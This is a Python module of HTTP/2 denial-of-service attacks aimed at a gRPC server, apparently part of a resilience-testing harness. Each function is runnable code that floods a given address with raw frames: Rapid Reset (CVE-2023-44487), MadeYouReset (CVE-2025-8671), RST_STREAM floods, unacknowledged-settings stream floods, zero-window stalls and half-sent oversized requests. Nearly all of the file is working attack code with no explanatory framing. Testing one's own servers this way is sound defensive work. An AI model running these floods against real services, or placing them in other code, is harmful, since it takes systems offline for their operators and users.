"""Attacks with calls: opened and cancelled, too many, never read, never whole."""

import time

from .wire import (
    CANCEL, DATA, EMPTY_MESSAGE, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, RST_STREAM, Peer, again_and_again,
    frame, request, setting,
)

ROUND = 100


def rapid_reset(address: str, seconds: float) -> str:
    """Whole calls, each cancelled at once (CVE-2023-44487)."""
    def attack(peer):
        out = b""
        for _ in range(ROUND):
            stream = peer.next_stream()
            out += frame(HEADERS, END_HEADERS, stream, request())
            out += frame(DATA, END_STREAM, stream, EMPTY_MESSAGE) + frame(RST_STREAM, 0, stream, CANCEL)
        peer.send(out)
        calls[0] += ROUND

    calls = [0]
    connections = again_and_again(address, seconds, attack)
    return f"{calls[0]} calls on {connections} connections"


def reset_after_headers(address: str, seconds: float) -> str:
    """Calls that are cancelled after their headers: unary ones, streams, and methods that are none."""
    def attack(peer):
        out = b""
        for index in range(ROUND):
            stream = peer.next_stream()
            out += frame(HEADERS, END_HEADERS, stream, request(["GetUser", "SyncUsers", "Nothing"][index % 3]))
            out += frame(RST_STREAM, 0, stream, CANCEL)
        peer.send(out)
        calls[0] += ROUND

    calls = [0]
    connections = again_and_again(address, seconds, attack)
    return f"{calls[0]} calls on {connections} connections"


def rst_flood(address: str, seconds: float) -> str:
    """RST_STREAM for one call, over and over, and for calls that never were."""
    def attack(peer):
        if peer.stream < 0:
            peer.send(frame(HEADERS, END_HEADERS, peer.next_stream(), request("SyncUsers")))
        peer.send(b"".join(frame(RST_STREAM, 0, stream, CANCEL) for stream in (1, 3, 1, 5)) * ROUND)
        resets[0] += 4 * ROUND

    resets = [0]
    connections = again_and_again(address, seconds, attack)
    return f"{resets[0]} resets on {connections} connections"


def made_you_reset(address: str, seconds: float) -> str:
    """Calls that have the server reset them: a window update of nothing, and data after the end (CVE-2025-8671)."""
    def attack(peer):
        out = b""
        for _ in range(ROUND):
            stream = peer.next_stream()
            out += frame(HEADERS, END_HEADERS, stream, request())
            out += frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
            out += frame(8, 0, stream, b"\0\0\0\0")
        peer.send(out)
        calls[0] += ROUND

    calls = [0]
    connections = again_and_again(address, seconds, attack)
    return f"{calls[0]} calls on {connections} connections"


def settings_never_acknowledged(address: str, seconds: float) -> str:
    """5,000 streams that stay open, where 1,000 are allowed to who acknowledges the server's settings."""
    peer = Peer(address, acknowledges=False)
    end = time.monotonic() + seconds
    opened = 0
    try:
        while opened < 5000:
            peer.send(b"".join(
                frame(HEADERS, END_HEADERS, peer.next_stream(), request("SyncUsers")) for _ in range(ROUND)))
            opened += ROUND
        while time.monotonic() < end:
            peer.discard()
            time.sleep(0.05)
    except OSError:
        return f"{opened} streams, then the connection was ended"
    peer.close()
    return f"{opened} streams"


def zero_window(address: str, seconds: float) -> str:
    """4,000 listings on four connections, whose answers are never taken."""
    peers = [Peer(address, settings=setting(INITIAL_WINDOW_SIZE, 0)) for _ in range(4)]
    end = time.monotonic() + seconds
    opened = 0
    for peer in peers:
        try:
            for _ in range(10):
                out = b""
                for _ in range(ROUND):
                    stream = peer.next_stream()
                    out += frame(HEADERS, END_HEADERS, stream, request())
                    out += frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
                peer.send(out)
                opened += ROUND
        except OSError:
            pass
    while time.monotonic() < end:
        time.sleep(0.05)
    for peer in peers:
        peer.close()
    return f"{opened} listings"


def half_requests(address: str, seconds: float) -> str:
    """Calls that send a few bytes of a message that says it has 4 MB, as many as there may be."""
    peers, opened = [], 0
    end = time.monotonic() + seconds
    while time.monotonic() < end and len(peers) < 10:
        peer = Peer(address)
        peers.append(peer)
        try:
            for _ in range(9):
                out = b""
                for _ in range(ROUND):
                    stream = peer.next_stream()
                    out += frame(HEADERS, END_HEADERS, stream, request("CreateUser"))
                    out += frame(DATA, 0, stream, b"\0\0\x3f\xff\0abc")
                peer.send(out)
                opened += ROUND
        except OSError:
            pass
    while time.monotonic() < end:
        time.sleep(0.05)
    for peer in peers:
        peer.close()
    return f"{opened} calls"


ATTACKS = [rapid_reset, reset_after_headers, rst_flood, made_you_reset, settings_never_acknowledged, zero_window, half_requests]
